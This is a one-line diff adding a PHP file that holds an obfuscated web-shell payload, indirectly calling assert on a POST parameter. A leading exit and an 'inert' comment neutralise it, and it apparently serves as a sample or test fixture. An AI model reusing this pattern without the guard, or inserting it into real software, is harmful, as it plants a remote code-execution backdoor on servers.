@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $a = array("x" => "assert"); @$a["x"]($_POST["k"]);
